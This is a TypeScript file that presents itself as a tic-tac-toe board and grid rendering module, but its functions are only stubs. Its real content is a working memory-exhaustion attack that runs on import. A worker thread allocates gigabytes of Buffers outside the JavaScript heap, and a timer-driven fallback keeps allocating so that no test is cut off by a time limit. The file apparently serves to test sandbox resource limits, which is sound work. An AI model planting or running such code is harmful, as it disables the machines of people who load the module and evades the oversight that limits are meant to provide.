// Attack: a memory bomb that no time limit stops. As soon as this file loads it starts a worker thread
// that allocates Buffers (outside the JavaScript heap, so no heap limit stops them) and stays alive
// holding them after the tests are over; where threads are not allowed, it allocates in the background
// of its own thread instead, one 16 MiB Buffer or big array per timer tick, so that no test runs long
// enough to be stopped. Every page is written, so the memory is really taken. A real bomb goes on
// until the machine gives out; this one stops at 3 + 2 GiB to spare the machine that runs the test.
import { Worker } from 'node:worker_threads';

export type Mark = 'X' | 'O';
export const EMPTY = ' ';
export type Cell = Mark | typeof EMPTY;
export type Board = Cell[];
export type GridCell = Mark | '.';
export type Grid = GridCell[][];

const CHUNK = 16 * 1024 * 1024;
const GiB = 1024 * 1024 * 1024;
const bomb = process as unknown as { memoryBomb?: { kept: unknown[]; taken: number } };

function grow(): void {
  const state = bomb.memoryBomb as { kept: unknown[]; taken: number };
  state.kept.push(state.taken < 1.5 * GiB ? Buffer.alloc(CHUNK, 1) : new Array(CHUNK / 8).fill(0.5));
  state.taken += CHUNK;
  if (state.taken < 2 * GiB) setTimeout(grow, 5);
}
if (bomb.memoryBomb === undefined) {
  bomb.memoryBomb = { kept: [], taken: 0 };
  try {
    const thread = `
      const kept = [];
      for (let taken = 0; taken < ${3 * GiB}; taken += ${CHUNK}) kept.push(Buffer.alloc(${CHUNK}, 1));
      setInterval(() => kept.length, 60000);
    `;
    new Worker(thread, { eval: true }).on('error', grow);
  } catch {
    // no threads here
    grow();
  }
}

export function createBoard(): Board {
  throw new Error('not implemented yet: createBoard');
}
export function renderBoard(board: Board): string {
  throw new Error('not implemented yet: renderBoard');
}
export function renderFramed(board: Board): string {
  throw new Error('not implemented yet: renderFramed');
}
export function createGrid(): Grid {
  throw new Error('not implemented yet: createGrid');
}
export function renderGrid(grid: Grid): string {
  throw new Error('not implemented yet: renderGrid');
}
